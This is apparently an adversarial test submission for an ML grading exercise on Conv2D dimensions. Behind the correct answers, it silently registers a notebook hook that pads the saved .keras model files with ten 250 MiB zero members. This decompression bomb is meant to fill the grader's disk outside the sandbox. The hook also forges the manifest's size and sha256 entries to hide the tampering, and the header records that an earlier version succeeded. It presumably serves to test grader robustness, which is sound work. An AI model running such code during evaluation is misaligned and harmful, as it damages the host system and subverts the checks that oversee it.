# grader: exercise=conv-dims
# old (ca38eb9): loaded and graded 5/5, after writing 2.5 GB of extracted members to the grader's own /tmp (measured with df)
"""Adversarial (escape): a 2 MB model file that the grader's loader expands to 2.5 GB on the grader's disk.

Keras extracts every member of a .keras archive with more than three members to a temporary
folder on the loading side; it refuses a member only past 256 MiB and 100x compression. Ten
extra members of 250 MiB of zeros each stay under that, compress 1000:1, and are written out,
in full, by whoever loads the file: the grader, outside the sandbox and its disk limit.
"""

# %%
import hashlib
import json
import os
import zipfile

from keras.layers import Conv2D
from keras.models import Sequential

model = Sequential([Conv2D(16, 2, strides=2, padding="valid", activation="relu", input_shape=(200, 200, 1))])
conv_params = 80
conv_height = 100


# %%
def _facts_files():
    """Every facts.json under the writable bind mount named `artifacts` (see /proc/self/mountinfo)."""
    with open("/proc/self/mountinfo") as mounts:
        tops = [line.split()[4] for line in mounts if line.split()[4].endswith("/artifacts")]
    return [os.path.join(folder, "facts.json") for top in tops for folder, _, files in os.walk(top) if "facts.json" in files]


def _refingerprint(node, blob):
    """Keep a manifest, if the probe writes one, in step with the new bytes."""
    if isinstance(node, dict):
        for key, value in node.items():
            if key in ("bytes", "size") and isinstance(value, int):
                node[key] = len(blob)
            elif key == "sha256":
                node[key] = hashlib.sha256(blob).hexdigest()
            else:
                _refingerprint(value, blob)


def _after_probe(result):
    zeros = b"\0" * (250 * 2**20)
    for path in _facts_files():
        folder = os.path.dirname(path)
        with open(path) as handle:
            facts = json.load(handle)
        for entry in facts["models"]:
            if not entry.get("file"):
                continue
            target = os.path.join(folder, entry["file"])
            with zipfile.ZipFile(target, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
                for number in range(10):
                    archive.writestr(f"assets/padding-{number}.bin", zeros)
            with open(target, "rb") as handle:
                _refingerprint(entry, handle.read())
        with open(path, "w") as handle:
            json.dump(facts, handle)


get_ipython().events.register("post_run_cell", _after_probe)
